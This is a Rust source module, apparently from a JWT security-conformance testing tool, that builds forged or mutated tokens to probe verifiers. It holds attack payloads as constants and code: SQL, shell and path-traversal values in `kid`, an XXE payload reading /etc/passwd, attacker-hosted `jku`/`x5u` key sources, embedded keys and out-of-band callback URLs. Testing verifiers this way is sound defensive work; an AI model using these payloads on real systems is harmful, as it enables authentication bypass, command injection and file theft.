//! Header-parameter mutations: `kid` lookups and injections, key sources (`jku`, `x5u`, `jwk`, `x5c`),
//! `crit`, `b64`, and `cty` nesting (RFC 7515 §4.1, RFC 7797, RFC 8725 §3.10).

use serde_json::{Map, Value, json};

use super::context::MutationContext;
use super::types::{AttackRequest, HostedFile, MutationError};
use super::util::{json_text, split_url};
use crate::token::Alg;
use crate::token::b64;
use crate::token::jws::Forge;
use crate::token::keys::{KeyKind, SigningKey, jwks, self_signed_certificate};

type Outcome = Result<AttackRequest, MutationError>;

/// A well-formed kid no key has.
pub(super) const UNKNOWN_KID: &str = "authconform-unknown-kid";
/// Path traversal to the null device (jwt_tool's value).
pub(super) const KID_TRAVERSAL: &str = "../../../../../../../dev/null";
/// The null device by absolute path.
pub(super) const KID_DEV_NULL: &str = "/dev/null";
/// SQL injection selecting the key `1`.
pub(super) const KID_SQLI: &str = "x' UNION SELECT '1';--";
/// Shell injection via a pipe.
pub(super) const KID_PIPE_SLEEP: &str = "|sleep 10";
/// Shell injection via command substitution.
pub(super) const KID_SUBSHELL_SLEEP: &str = "$(sleep 10)";
/// Size of the oversized kid.
pub(super) const KID_OVERSIZED_LEN: usize = 100 * 1024;
/// Attacker-hosted paths.
pub(super) const JWKS_PATH: &str = "/jwks.json";
/// Attacker-hosted certificate path.
pub(super) const X5U_PATH: &str = "/x5u.pem";
/// Attacker callback path prefix (out-of-band probes).
pub(super) const CALLBACK_PATH: &str = "/callback";
/// The unknown critical extension.
pub(super) const CRIT_EXTENSION: &str = "x-authconform";

fn signed_header(ctx: &MutationContext, edit: impl FnOnce(&mut Map<String, Value>)) -> Outcome {
    let mut header = ctx.header();
    edit(&mut header);
    Ok(AttackRequest::bearer(ctx.sign(&header, &ctx.claims())?))
}

fn with_kid(ctx: &MutationContext, kid: Value) -> Outcome {
    ctx.issuer_kid()?;
    signed_header(ctx, |h| {
        h.insert("kid".into(), kid);
    })
}

pub(super) fn kid_unknown(ctx: &MutationContext) -> Outcome {
    with_kid(ctx, UNKNOWN_KID.into())
}

pub(super) fn kid_number(ctx: &MutationContext) -> Outcome {
    with_kid(ctx, 12345.into())
}

pub(super) fn kid_null(ctx: &MutationContext) -> Outcome {
    with_kid(ctx, Value::Null)
}

pub(super) fn kid_empty(ctx: &MutationContext) -> Outcome {
    with_kid(ctx, "".into())
}

pub(super) fn kid_oversized(ctx: &MutationContext) -> Outcome {
    with_kid(ctx, "k".repeat(KID_OVERSIZED_LEN).into())
}

/// An HS256 token whose kid names a "key" the attacker knows, HMAC-signed with that key's bytes.
pub(super) fn kid_hmac(ctx: &MutationContext, kid: &str, secret: &[u8]) -> Outcome {
    let header = json!({ "alg": "HS256", "kid": kid });
    let forge = Forge::new(header.to_string(), json_text(&ctx.claims()));
    Ok(AttackRequest::bearer(forge.hmac(Alg::Hs256, secret)))
}

/// A kid carrying a shell payload, signed by the attacker (any acceptance is wrong; a delay or a
/// callback shows execution).
pub(super) fn kid_injection(ctx: &MutationContext, kid: &str) -> Outcome {
    let key = ctx.attacker_same_alg()?;
    let mut header = ctx.header();
    header.insert("kid".into(), kid.into());
    let forge = Forge::new(json_text(&header), json_text(&ctx.claims()));
    Ok(AttackRequest::bearer(forge.sign(&key)?))
}

/// Header `{alg, kid}` for a token signed by `key`.
fn key_header(key: &SigningKey) -> Map<String, Value> {
    let mut header = Map::new();
    header.insert("alg".into(), key.alg().as_str().into());
    if let Some(kid) = key.kid() {
        header.insert("kid".into(), kid.into());
    }
    header
}

fn sign_injected(
    ctx: &MutationContext,
    key: &SigningKey,
    header: &Map<String, Value>,
) -> Result<String, MutationError> {
    Ok(Forge::new(json_text(header), json_text(&ctx.claims())).sign(key)?)
}

fn hosted_jwks(key: &SigningKey, path: &str) -> Result<HostedFile, MutationError> {
    let public = key
        .public_key()
        .ok_or_else(|| MutationError::NotApplicable("no attacker public key".into()))?;
    Ok(HostedFile {
        path: path.to_string(),
        content_type: "application/json".into(),
        body: jwks([&public]).to_string(),
    })
}

/// `jku` pointing at `url`, which serves the attacker's JWKS at `hosted_path`.
fn jku(ctx: &MutationContext, url: String, hosted_path: &str) -> Outcome {
    let key = ctx.attacker_injection_key();
    let mut header = key_header(&key);
    header.insert("jku".into(), url.into());
    let mut request = AttackRequest::bearer(sign_injected(ctx, &key, &header)?);
    request.hosted.push(hosted_jwks(&key, hosted_path)?);
    Ok(request)
}

pub(super) fn jku_to_attacker_jwks(ctx: &MutationContext) -> Outcome {
    jku(ctx, ctx.attacker_url(JWKS_PATH)?, JWKS_PATH)
}

/// `<scheme>://<issuer authority>@<attacker authority>/jwks.json`: the issuer's host as userinfo.
pub(super) fn jku_userinfo_bypass(ctx: &MutationContext) -> Outcome {
    let attacker = ctx.attacker_url(JWKS_PATH)?;
    let (scheme, authority, rest) = split_url(&attacker)
        .ok_or_else(|| MutationError::NotApplicable("attacker URL has no scheme".into()))?;
    let iss = ctx.iss()?;
    let trusted = split_url(&iss).map_or(iss.as_str(), |(_, a, _)| a);
    jku(
        ctx,
        format!("{scheme}://{trusted}@{authority}{rest}"),
        JWKS_PATH,
    )
}

/// `<attacker>/<issuer authority>/jwks.json`: the issuer's host inside the attacker's path.
pub(super) fn jku_path_bypass(ctx: &MutationContext) -> Outcome {
    let iss = ctx.iss()?;
    let trusted = split_url(&iss).map_or(iss.as_str(), |(_, a, _)| a);
    let path = format!("/{trusted}{JWKS_PATH}");
    jku(ctx, ctx.attacker_url(&path)?, &path)
}

pub(super) fn x5u_to_attacker_cert(ctx: &MutationContext) -> Outcome {
    let url = ctx.attacker_url(X5U_PATH)?;
    let key = ctx.attacker_injection_key();
    let cert = self_signed_certificate(&key, "authconform attacker")?;
    let mut header = key_header(&key);
    header.insert("x5u".into(), url.into());
    let mut request = AttackRequest::bearer(sign_injected(ctx, &key, &header)?);
    request.hosted.push(HostedFile {
        path: X5U_PATH.into(),
        content_type: "application/pem-certificate-chain".into(),
        body: cert.pem,
    });
    Ok(request)
}

/// An attacker key embedded as `jwk`; `kind` `None` means the target's kind.
pub(super) fn embedded_jwk(ctx: &MutationContext, kind: Option<KeyKind>) -> Outcome {
    let key = match kind {
        None => ctx.attacker_injection_key(),
        Some(kind) => {
            let key = ctx
                .attacker
                .by_kind(kind)
                .unwrap_or(&ctx.attacker.ed25519)
                .clone();
            let kid = ctx
                .issuer
                .kid
                .clone()
                .or_else(|| key.kid().map(str::to_string));
            key.with_kid(kid)
        }
    };
    let public = key
        .public_key()
        .ok_or_else(|| MutationError::NotApplicable("no attacker public key".into()))?;
    let mut header = key_header(&key);
    header.insert("jwk".into(), public.to_jwk());
    Ok(AttackRequest::bearer(sign_injected(ctx, &key, &header)?))
}

pub(super) fn x5c_self_signed(ctx: &MutationContext) -> Outcome {
    let key = ctx.attacker_injection_key();
    let cert = self_signed_certificate(&key, "authconform attacker")?;
    let mut header = key_header(&key);
    header.insert("x5c".into(), json!([cert.x5c_entry()]));
    Ok(AttackRequest::bearer(sign_injected(ctx, &key, &header)?))
}

pub(super) fn crit_unknown_extension(ctx: &MutationContext) -> Outcome {
    signed_header(ctx, |h| {
        h.insert("crit".into(), json!([CRIT_EXTENSION]));
        h.insert(CRIT_EXTENSION.into(), true.into());
    })
}

pub(super) fn crit_empty(ctx: &MutationContext) -> Outcome {
    signed_header(ctx, |h| {
        h.insert("crit".into(), json!([]));
    })
}

pub(super) fn crit_registered(ctx: &MutationContext) -> Outcome {
    signed_header(ctx, |h| {
        h.insert("crit".into(), json!(["alg"]));
    })
}

/// RFC 7797 unencoded payload: `b64:false`, `crit:["b64"]`, payload inline (or detached when it holds a
/// dot), signed over `<header>.<raw payload>`.
pub(super) fn b64_false(ctx: &MutationContext) -> Outcome {
    let mut header = ctx.header();
    header.insert("b64".into(), false.into());
    header.insert("crit".into(), json!(["b64"]));
    let encoded_header = b64::encode(json_text(&header).as_bytes());
    let payload = json_text(&ctx.claims());
    let signed = ctx.sign_input(&format!("{encoded_header}.{payload}"))?;
    let signature = signed.rsplit('.').next().unwrap_or_default();
    let inline = if payload.contains('.') {
        ""
    } else {
        payload.as_str()
    };
    Ok(AttackRequest::bearer(format!(
        "{encoded_header}.{inline}.{signature}"
    )))
}

pub(super) fn b64_false_without_crit(ctx: &MutationContext) -> Outcome {
    signed_header(ctx, |h| {
        h.insert("b64".into(), false.into());
    })
}

fn nested_header(alg: &str, kid: Option<&str>) -> Map<String, Value> {
    let mut header = Map::new();
    header.insert("alg".into(), alg.into());
    if let Some(kid) = kid {
        header.insert("kid".into(), kid.into());
    }
    header.insert("cty".into(), "JWT".into());
    header
}

pub(super) fn nested_unsigned_outer(ctx: &MutationContext) -> Outcome {
    let inner = ctx.valid_token()?;
    Ok(AttackRequest::bearer(
        Forge::new(json_text(&nested_header("none", None)), inner).unsigned(),
    ))
}

pub(super) fn nested_attacker_outer(ctx: &MutationContext) -> Outcome {
    let inner = ctx.valid_token()?;
    let key = ctx.attacker_same_alg()?;
    let header = nested_header(key.alg().as_str(), key.kid());
    Ok(AttackRequest::bearer(
        Forge::new(json_text(&header), inner).sign(&key)?,
    ))
}

pub(super) fn nested_forged_inner(ctx: &MutationContext) -> Outcome {
    let key = ctx.attacker_same_alg()?;
    let inner = Forge::new(json_text(&ctx.header()), json_text(&ctx.claims())).sign(&key)?;
    let header = nested_header(ctx.alg().as_str(), ctx.issuer.kid.as_deref());
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        json_text(&header).as_bytes(),
        inner.as_bytes(),
    )?))
}

/// An XML payload with an external entity, under `cty: text/xml`, validly signed.
pub(super) const XXE_PAYLOAD: &str = "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><claims><sub>&x;</sub></claims>";

pub(super) fn cty_xml_payload(ctx: &MutationContext) -> Outcome {
    let mut header = ctx.header();
    header.insert("cty".into(), "text/xml".into());
    Ok(AttackRequest::bearer(ctx.sign_bytes(
        json_text(&header).as_bytes(),
        XXE_PAYLOAD.as_bytes(),
    )?))
}

/// Callback URLs in `jku`, `x5u` and `iss`, validly signed (any fetch is a finding).
pub(super) fn url_claims_callback(ctx: &MutationContext) -> Outcome {
    // Accepted without a fetch, it shows a foreign `iss` accepted: nothing, for tokens without one.
    ctx.iss()?;
    let jku = ctx.attacker_url(&format!("{CALLBACK_PATH}/jku"))?;
    let x5u = ctx.attacker_url(&format!("{CALLBACK_PATH}/x5u"))?;
    let iss = ctx.attacker_url(&format!("{CALLBACK_PATH}/iss"))?;
    let mut header = ctx.header();
    header.insert("jku".into(), jku.into());
    header.insert("x5u".into(), x5u.into());
    let mut claims = ctx.claims();
    claims.insert("iss".into(), iss.into());
    Ok(AttackRequest::bearer(ctx.sign(&header, &claims)?))
}

/// Header names jwt_tool's `-M cc` injects into.
pub(super) const COMMON_HEADERS: [&str; 5] = ["typ", "jku", "kid", "x5u", "x5t"];
/// Registered and common claim names that may hold URLs.
pub(super) const COMMON_CLAIMS: [&str; 12] = [
    "iss",
    "sub",
    "aud",
    "jti",
    "azp",
    "nonce",
    "email",
    "website",
    "picture",
    "profile",
    "client_id",
    "redirect_uri",
];

/// Callback URLs in common header and claim names, original signature kept.
pub(super) fn common_claims_url_injected(ctx: &MutationContext) -> Outcome {
    let mut header = ctx.header();
    for name in COMMON_HEADERS {
        header.insert(
            name.into(),
            ctx.attacker_url(&format!("{CALLBACK_PATH}/header/{name}"))?
                .into(),
        );
    }
    let mut claims = ctx.claims();
    for name in COMMON_CLAIMS {
        claims.insert(
            name.into(),
            ctx.attacker_url(&format!("{CALLBACK_PATH}/claim/{name}"))?
                .into(),
        );
    }
    let valid = ctx.valid_token()?;
    let signature = valid.rsplit('.').next().unwrap_or_default();
    Ok(AttackRequest::bearer(format!(
        "{}.{}.{signature}",
        b64::encode(json_text(&header).as_bytes()),
        b64::encode(json_text(&claims).as_bytes())
    )))
}
